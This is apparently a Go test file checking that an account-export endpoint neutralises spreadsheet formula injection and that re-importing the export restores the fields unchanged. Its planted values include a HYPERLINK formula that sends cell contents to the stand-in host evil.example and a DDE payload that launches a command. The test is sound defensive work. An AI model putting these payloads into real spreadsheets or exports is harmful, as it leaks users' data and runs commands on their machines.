package web_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/partnerhub/partnerhub/exchange/imports"
	"github.com/partnerhub/partnerhub/partners/accounts"
)

// A partner with a write share types formulas into an account's fields; the
// owner's export must not hand them to a spreadsheet as formulas (every cell that
// starts with = + - @ TAB or CR gets a leading quote), and importing that export
// back must give the fields exactly as they were.
func TestExportNeutralizesFormulasAndImportsBack(t *testing.T) {
	f := newFixture(t)
	id := f.writeShared(t, "Formula Target", "formula-target.example")
	planted := map[string]string{
		"name":        `=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
		"industry":    "+cmd|' /C calc'!A0",
		"region":      "-2+3",
		"street":      "@SUM(1+1)",
		"city":        "'=already quoted once",
		"state":       "Plain State",
		"postal_code": "=1+1",
	}
	body, _ := json.Marshal(map[string]any{"name": planted["name"], "industry": planted["industry"], "region": planted["region"], "street": planted["street"],
		"city": planted["city"], "state": planted["state"], "postal_code": planted["postal_code"], "tags": []string{"-vip", "=x"}})
	if resp, m := f.api("PATCH", fmt.Sprintf("/api/v1/accounts/%d", id), f.keys["partner"], string(body)); resp.StatusCode != 200 {
		t.Fatalf("partner's edit: %d %v", resp.StatusCode, m)
	}

	status, export := f.send("GET", "/api/v1/accounts/export.csv", f.keys["vendor"], "", "")
	if status != 200 {
		t.Fatalf("export: %d %s", status, export)
	}
	records, err := csv.NewReader(bytes.NewReader(export)).ReadAll()
	if err != nil || len(records) != 2 {
		t.Fatalf("export is %d records (%v):\n%s", len(records), err, export)
	}
	header, row := records[0], records[1]
	cell := map[string]string{}
	for i, h := range header {
		cell[h] = row[i]
	}
	for _, c := range row {
		if c != "" && strings.ContainsAny(c[:1], "=+-@\t\r") {
			t.Errorf("exported cell %q starts a formula", c)
		}
	}
	for field, v := range planted {
		want := v
		if field != "state" {
			want = "'" + v
		}
		if cell[field] != want {
			t.Errorf("exported %s = %q, want %q", field, cell[field], want)
		}
	}
	if cell["tags"] != "'-vip;=x" {
		t.Errorf("exported tags = %q, want %q", cell["tags"], "'-vip;=x")
	}

	// The owner imports its export back: nothing changes, the fields are as typed.
	as := &accounts.Service{DB: f.d.App, Partners: f.svc}
	res, err := imports.New(f.d.App, as.ImportFamilies()...).Import(context.Background(), f.users["vendor-admin"], export, imports.Options{Mapping: map[string]string{"owner": "ignore"}}, nil)
	if err != nil || !res.Applied || res.Unchanged != 1 || res.Updated != 0 || res.Created != 0 {
		t.Fatalf("re-import of the export = %+v, %v; want 1 unchanged", res, err)
	}
	acc, err := as.Get(context.Background(), f.users["vendor-admin"], id)
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{"name": acc.Name, "industry": acc.Industry, "region": acc.Region, "street": acc.Street, "city": acc.City, "state": acc.State, "postal_code": acc.PostalCode}
	for field, v := range planted {
		if got[field] != v {
			t.Errorf("after the round trip %s = %q, want %q", field, got[field], v)
		}
	}
	if strings.Join(acc.Tags, ";") != "-vip;=x" {
		t.Errorf("after the round trip tags = %v", acc.Tags)
	}
}
